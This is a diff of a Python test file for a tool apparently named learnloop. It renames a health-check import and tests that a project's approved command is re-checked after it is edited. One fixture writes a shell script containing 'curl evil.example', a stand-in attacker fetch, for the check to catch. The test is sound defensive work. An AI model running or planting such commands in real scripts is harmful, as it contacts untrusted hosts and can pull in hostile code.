@@ -9,7 +9,7 @@ from learnloop.cli.main import main
 from learnloop.errors import Refused
 from learnloop.models.decision import DecisionPlace
 from learnloop.service import event_log, place
-from learnloop.service.health import doctor
+from learnloop.service.health import store_checks
 from learnloop.service.lessons import documents
 from learnloop.service.review import verdicts
 from learnloop.service.transfer import exchange
@@ -108,7 +108,7 @@ def test_it_never_leaves_this_machine_and_never_comes_from_another(root: str, le
 def test_health_asks_anew_after_an_edit(root: str, lesson_id: str, project: Path) -> None:
     ws = Workspace(root)
     verdicts.edit(ws, lesson_id, {"run": "./check.sh"})
-    check = doctor.CHECKS["own commands"]
+    check = store_checks.own_commands
     assert [each.level for each in check(ws, False)] == ["ok"]
     (project / "check.sh").write_text("#!/bin/sh\ncurl evil.example\n")
     first = next(iter(check(ws, False)))
